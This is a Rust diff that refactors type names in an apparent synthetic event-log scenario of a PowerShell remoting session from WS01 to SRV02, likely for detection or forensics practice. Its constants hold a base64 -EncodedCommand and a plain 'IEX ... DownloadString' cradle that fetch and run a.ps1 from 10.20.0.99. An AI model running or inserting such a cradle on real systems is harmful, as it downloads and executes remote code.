@@ -1,28 +1,28 @@
 //! Session A: adm.lee enters a session from WS01 to SRV02, 21:14:07 to 21:16:42.
 
-use evtx_writer::{FileTime, Guid};
-use scenario::events::{Logon, POWERSHELL, Process, dcom};
+use evtx_writer::{EvtxGuid, FileTime};
+use scenario::events::{POWERSHELL, ScenarioLogon, ScenarioProcess, dcom};
 
-use crate::logs::{Logs, at, later};
+use crate::logs::{SampleLogs, at, later};
 use crate::world::{ADM_LEE, ADM_LEE_AT_WS01, DC01, J_DOE, KRBTGT, SRV02, WS01, explorer};
-use scenario::events::powershell::{Engine, Pool, VERBOSE, WARNING};
-use scenario::events::security::{self, Source};
+use scenario::events::powershell::{ClientRunspacePool, ScenarioEngine, VERBOSE, WARNING};
+use scenario::events::security::{self, LogonSource};
 use scenario::events::sysmon;
-use scenario::events::winrm::{End, POWERSHELL_SHELL, with_caller};
+use scenario::events::winrm::{POWERSHELL_SHELL, WsmanEndpoint, with_caller};
 
-const POOL: Guid = Guid::from_u128(0x3f6a1c84_92d7_4be0_8a15_6c0de97b2f31);
-const CLIENT_RUNSPACE: Guid = Guid::from_u128(0x8b2e57d0_14fa_4c69_b3a8_d51f0c7e9642);
-const CLIENT_ACTIVITY: Guid = Guid::from_u128(0x5d20a9c3_7e11_0001_4fb8_c16eb3d3dc01);
-const SERVICE_ACTIVITY: Guid = Guid::from_u128(0xa4177b62_31c5_0000_9d3e_80f1b3d3dc01);
-const HOST_ACTIVITY: Guid = Guid::from_u128(0xa4177b62_31c5_0001_27aa_91f1b3d3dc01);
-const TICKET: Guid = Guid::from_u128(0x71c3e8ab_5f90_d264_1be7_a03dcc98f51e);
+const POOL: EvtxGuid = EvtxGuid::from_u128(0x3f6a1c84_92d7_4be0_8a15_6c0de97b2f31);
+const CLIENT_RUNSPACE: EvtxGuid = EvtxGuid::from_u128(0x8b2e57d0_14fa_4c69_b3a8_d51f0c7e9642);
+const CLIENT_ACTIVITY: EvtxGuid = EvtxGuid::from_u128(0x5d20a9c3_7e11_0001_4fb8_c16eb3d3dc01);
+const SERVICE_ACTIVITY: EvtxGuid = EvtxGuid::from_u128(0xa4177b62_31c5_0000_9d3e_80f1b3d3dc01);
+const HOST_ACTIVITY: EvtxGuid = EvtxGuid::from_u128(0xa4177b62_31c5_0001_27aa_91f1b3d3dc01);
+const TICKET: EvtxGuid = EvtxGuid::from_u128(0x71c3e8ab_5f90_d264_1be7_a03dcc98f51e);
 /// A ticket does for all connections; Security makes a GUID of each at the target.
-const TARGET_TICKET: Guid = Guid::from_u128(0xe6081f5c_a73d_49b2_d4c0_3897eb512a6f);
+const TARGET_TICKET: EvtxGuid = EvtxGuid::from_u128(0xe6081f5c_a73d_49b2_d4c0_3897eb512a6f);
 
 /// The session's own logon, and those of two more HTTP connections.
-const OWNER: Logon<'static> = ADM_LEE.logon(0x5f1a20);
-const SECOND: Logon<'static> = ADM_LEE.logon(0x5f1b77);
-const THIRD: Logon<'static> = ADM_LEE.logon(0x5f90c4);
+const OWNER: ScenarioLogon<'static> = ADM_LEE.logon(0x5f1a20);
+const SECOND: ScenarioLogon<'static> = ADM_LEE.logon(0x5f1b77);
+const THIRD: ScenarioLogon<'static> = ADM_LEE.logon(0x5f90c4);
 
 const INVENTORY: [&str; 3] = [
     "function Get-ShareInventory {\r\n    param([string[]] $Root = @('D:\\Finance', 'D:\\Projects', 'D:\\HR'))\r\n    $since = (Get-Date).AddDays(-30)\r\n",
@@ -33,7 +33,7 @@ const INVENTORY: [&str; 3] = [
 const ENCODED: &str = "powershell.exe -NoP -NonI -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQAwAC4AMgAwAC4AMAAuADkAOQAvAGEALgBwAHMAMQAnACkA";
 const CRADLE: &str = "IEX (New-Object Net.WebClient).DownloadString('http://10.20.0.99/a.ps1')";
 
-pub fn add(logs: &mut Logs) {
+pub fn add(logs: &mut SampleLogs) {
     logon_at_the_client(logs);
     connect(logs);
     start_at_the_target(logs);
@@ -42,16 +42,16 @@ pub fn add(logs: &mut Logs) {
     leave(logs);
 }
 
-fn client_process() -> Process {
-    Process::new(6700, POWERSHELL, format!("\"{POWERSHELL}\" "))
+fn client_process() -> ScenarioProcess {
+    ScenarioProcess::new(6700, POWERSHELL, format!("\"{POWERSHELL}\" "))
 }
 
-fn client_end() -> End<'static> {
-    End::client(ADM_LEE, &client_process(), CLIENT_ACTIVITY)
+fn client_end() -> WsmanEndpoint<'static> {
+    WsmanEndpoint::client(ADM_LEE, &client_process(), CLIENT_ACTIVITY)
 }
 
-fn host_process() -> Process {
-    Process::new(
+fn host_process() -> ScenarioProcess {
+    ScenarioProcess::new(
         5336,
         r"C:\Windows\System32\wsmprovhost.exe",
         r"C:\Windows\system32\wsmprovhost.exe -Embedding",
@@ -59,13 +59,13 @@ fn host_process() -> Process {
 }
 
 /// The engine inside wsmprovhost.exe.
-fn engine() -> Engine<'static> {
-    Engine {
+fn engine() -> ScenarioEngine<'static> {
+    ScenarioEngine {
         host_name: "ServerRemoteHost",
         host_version: "1.0.0.0",
         engine_version: "5.1.20348.2227",
-        host_id: Guid::from_u128(0x9c41e7b5_06d3_4f28_a1bd_72e8503c6fd4),
-        runspace: Guid::from_u128(0x24d9b6f1_c87e_45a3_9e02_b61f7ad4083c),
+        host_id: EvtxGuid::from_u128(0x9c41e7b5_06d3_4f28_a1bd_72e8503c6fd4),
+        runspace: EvtxGuid::from_u128(0x24d9b6f1_c87e_45a3_9e02_b61f7ad4083c),
         activity: HOST_ACTIVITY,
         account: ADM_LEE,
         connected: ADM_LEE,
@@ -74,12 +74,12 @@ fn engine() -> Engine<'static> {
 }
 
 /// adm.lee at the keyboard of WS01, with a console.
-fn logon_at_the_client(logs: &mut Logs) {
+fn logon_at_the_client(logs: &mut SampleLogs) {
     logs.add(
         &DC01,
         security::ticket_granting(&DC01, at(21, 5, 11, 4_402_118), ADM_LEE, KRBTGT, (&WS01, 50120)),
     );
-    let seated = Source::local(&WS01, 2);
+    let seated = LogonSource::local(&WS01, 2);
     logs.add(
         &WS01,
         security::plain_logon(&WS01, at(21, 5, 11, 5_100_927), ADM_LEE_AT_WS01, seated),
@@ -100,13 +100,13 @@ fn logon_at_the_client(logs: &mut Logs) {
             "MD5=3E1C0A97B2D84F65A1907C5D2E6B8F40",
         ),
     );
-    let shell = Engine::console(
+    let shell = ScenarioEngine::console(
         console,
         ADM_LEE,
         "5.1.19041.1682",
         [
-            Guid::from_u128(0x61fd30c8_b2a7_4e95_8c46_0d97e31fa5b2),
-            Guid::from_u128(0xd8075e94_3c1b_47f6_a2e9_5b640fc8d137),
+            EvtxGuid::from_u128(0x61fd30c8_b2a7_4e95_8c46_0d97e31fa5b2),
+            EvtxGuid::from_u128(0xd8075e94_3c1b_47f6_a2e9_5b640fc8d137),
             CLIENT_ACTIVITY,
         ],
     );
@@ -115,7 +115,7 @@ fn logon_at_the_client(logs: &mut Logs) {
     }
     logs.add(&WS01, shell.listening(at(21, 13, 48, 4_908_733)));
     logs.add(&WS01, shell.available(at(21, 13, 48, 6_000_000), 13));
-    let block = Guid::from_u128(0x0e9b7ac5_f168_4d32_b7d4_18c2905ea36f);
+    let block = EvtxGuid::from_u128(0x0e9b7ac5_f168_4d32_b7d4_18c2905ea36f);
     let line = "Enter-PSSession -ComputerName SRV02.corp.example";
     for event in shell.script(at(21, 14, 6, 9_804_416), VERBOSE, block, &[line]) {
         logs.add(&WS01, event);
@@ -123,8 +123,13 @@ fn logon_at_the_client(logs: &mut Logs) {
 }
 
 /// The client's side of the connection, and what the domain controller sees of it.
-fn connect(logs: &mut Logs) {
-    let pool = Pool { process_id: 6700, account: ADM_LEE, runspace: CLIENT_RUNSPACE, pool: POOL };
+fn connect(logs: &mut SampleLogs) {
+    let pool = ClientRunspacePool {
+        process_id: 6700,
+        account: ADM_LEE,
+        runspace: CLIENT_RUNSPACE,
+        pool: POOL,
+    };
     for event in pool.opening(at(21, 14, 7, 312_345)) {
         logs.add(&WS01, event);
     }
@@ -167,7 +172,7 @@ fn connect(logs: &mut Logs) {
 }
 
 /// One HTTP connection, at both ends.
-fn connection(logs: &mut Logs, time: FileTime, port: u16, utc: &str) {
+fn connection(logs: &mut SampleLogs, time: FileTime, port: u16, utc: &str) {
     let (from, to) = ((&WS01, port), (&SRV02, 5985));
     let console = client_process();
     logs.add(&WS01, security::connection_out(time, &console, from, to));
@@ -178,16 +183,16 @@ fn connection(logs: &mut Logs, time: FileTime, port: u16, utc: &str) {
     logs.add(&SRV02, security::connection_in(later(time, 7_116), from, to));
 }
 
-fn logon(logs: &mut Logs, time: FileTime, session: Logon<'_>) {
+fn logon(logs: &mut SampleLogs, time: FileTime, session: ScenarioLogon<'_>) {
     logs.add(&SRV02, security::privileges(&SRV02, time, session));
-    let source = Source::kerberos();
+    let source = LogonSource::kerberos();
     logs.add(&SRV02, security::logon(&SRV02, later(time, 118), session, source, TARGET_TICKET));
 }
 
 /// The shell, its process and its engine.
-fn start_at_the_target(logs: &mut Logs) {
+fn start_at_the_target(logs: &mut SampleLogs) {
     logon(logs, at(21, 14, 7, 1_180_436), OWNER);
-    let service = End::service(&SRV02, ADM_LEE, SERVICE_ACTIVITY);
+    let service = WsmanEndpoint::service(&SRV02, ADM_LEE, SERVICE_ACTIVITY);
     logs.add(
         &SRV02,
         service.shell_created(
@@ -218,14 +223,14 @@ fn start_at_the_target(logs: &mut Logs) {
     logs.add(&SRV02, engine.provider(at(21, 14, 7, 5_233_190), "WSMan", 15, false));
 }
 
-/// What was typed into the session.
-fn commands(logs: &mut Logs) {
+/// The lines typed into the session.
+fn commands(logs: &mut SampleLogs) {
     let engine = engine();
     let client = client_end();
     let mut typed = |time: FileTime, block: u128, parts: &[&str], command_id: u128| {
-        let guid = Guid::from_u128(command_id);
+        let guid = EvtxGuid::from_u128(command_id);
         logs.add(&WS01, client.command(FileTime(time.0 - 201_337), guid));
-        for event in engine.script(time, VERBOSE, Guid::from_u128(block), parts) {
+        for event in engine.script(time, VERBOSE, EvtxGuid::from_u128(block), parts) {
             logs.add(&SRV02, event);
         }
     };
@@ -277,20 +282,20 @@ fn commands(logs: &mut Logs) {
     }
 }
 
-/// What the encoded command started, and what that started.
-fn child_process(logs: &mut Logs) {
+/// The process that the encoded command started, and that process's children.
+fn child_process(logs: &mut SampleLogs) {
     let host = host_process();
-    let child = Process::new(
+    let child = ScenarioProcess::new(
         7948,
         POWERSHELL,
         ENCODED.replacen("powershell.exe", &format!("\"{POWERSHELL}\""), 1),
     );
-    let conhost = Process::new(
+    let conhost = ScenarioProcess::new(
         7960,
         r"C:\Windows\System32\conhost.exe",
         r"\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1",
     );
-    let whoami = Process::new(
+    let whoami = ScenarioProcess::new(
         8104,
         r"C:\Windows\System32\whoami.exe",
         "\"C:\\Windows\\system32\\whoami.exe\" /all",
@@ -310,14 +315,14 @@ fn child_process(logs: &mut Logs) {
         logs.add(&SRV02, security::process_exited(time, OWNER, process));
     }
 
-    let engine = Engine::console(
+    let engine = ScenarioEngine::console(
         child,
         ADM_LEE,
         "5.1.20348.2227",
         [
-            Guid::from_u128(0x7de402b9_51fc_4038_9b6a_ec85d7130f42),
-            Guid::from_u128(0x50b8fa3d_e726_4d91_8ac3_197c06be54f8),
-            Guid::from_u128(0xa4177b62_31c5_0002_88f0_a5f1b3d3dc01),
+            EvtxGuid::from_u128(0x7de402b9_51fc_4038_9b6a_ec85d7130f42),
+            EvtxGuid::from_u128(0x50b8fa3d_e726_4d91_8ac3_197c06be54f8),
+            EvtxGuid::from_u128(0xa4177b62_31c5_0002_88f0_a5f1b3d3dc01),
         ],
     );
     for event in engine.console_started(at(21, 15, 31, 7_204_911), at(21, 15, 31, 9_903_262)) {
@@ -325,7 +330,7 @@ fn child_process(logs: &mut Logs) {
     }
     logs.add(&SRV02, engine.listening(at(21, 15, 31, 8_110_034)));
     logs.add(&SRV02, engine.available(at(21, 15, 31, 8_620_557), 13));
-    let block = Guid::from_u128(0x83fd16a0_c94e_4275_b0d8_2ae7915c6f3b);
+    let block = EvtxGuid::from_u128(0x83fd16a0_c94e_4275_b0d8_2ae7915c6f3b);
     for event in engine.script(at(21, 15, 32, 1_306_488), WARNING, block, &[CRADLE]) {
         logs.add(&SRV02, event);
     }
@@ -333,7 +338,7 @@ fn child_process(logs: &mut Logs) {
 }
 
 /// The end of the session, and logons of others that fall into it.
-fn leave(logs: &mut Logs) {
+fn leave(logs: &mut SampleLogs) {
     logs.add(&SRV02, security::logoff(&SRV02, at(21, 15, 40, 7_702_116), SECOND, 3));
     logon(logs, at(21, 15, 41, 1_214_380), THIRD);
 
@@ -347,7 +352,12 @@ fn leave(logs: &mut Logs) {
     for event in closing {
         logs.add(&WS01, event);
     }
-    let pool = Pool { process_id: 6700, account: ADM_LEE, runspace: CLIENT_RUNSPACE, pool: POOL };
+    let pool = ClientRunspacePool {
+        process_id: 6700,
+        account: ADM_LEE,
+        runspace: CLIENT_RUNSPACE,
+        pool: POOL,
+    };
     logs.add(&WS01, pool.state(at(21, 16, 42, 480_233), "Closed"));
 
     logs.add(&SRV02, engine().stopped(at(21, 16, 42, 318_876), 39));
@@ -359,7 +369,7 @@ fn leave(logs: &mut Logs) {
     for (minute, second, id, port) in [(14, 30, 0x5f3d01, 50219), (16, 1, 0x5f9ab3, 50246)] {
         let session = J_DOE.logon(id);
         let time = at(21, minute, second, 2_400_711);
-        let source = Source::kerberos_from(WS01.ip, port);
+        let source = LogonSource::kerberos_from(WS01.ip, port);
         logs.add(&SRV02, security::plain_logon(&SRV02, time, session, source));
         logs.add(&SRV02, security::logoff(&SRV02, later(time, 110_000_000), session, 3));
     }
